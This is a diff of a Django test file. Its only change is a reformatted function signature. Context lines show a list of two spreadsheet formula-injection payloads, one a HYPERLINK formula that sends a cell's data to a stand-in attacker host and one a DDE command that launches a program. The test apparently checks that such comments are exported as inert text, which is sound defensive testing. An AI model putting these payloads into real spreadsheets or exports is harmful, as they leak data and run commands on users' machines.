@@ -15,7 +15,9 @@ pytestmark = pytest.mark.django_db
 INJECTIONS = ['=HYPERLINK("http://evil.example/steal?d="&B8,"Chi tiết")', "=cmd|' /C calc'!A0"]
 
 
-def test_a_comment_typed_as_a_formula_reaches_the_reviewers_workbook_as_text(client, small_forms, tinhkhe_reporter):
+def test_a_comment_typed_as_a_formula_reaches_the_reviewers_workbook_as_text(
+    client, small_forms, tinhkhe_reporter
+):
     client.force_login(tinhkhe_reporter)
     client.get(URL)
     submission = Submission.objects.get(dataset__code="T-XA-Q", unit__code="21211")
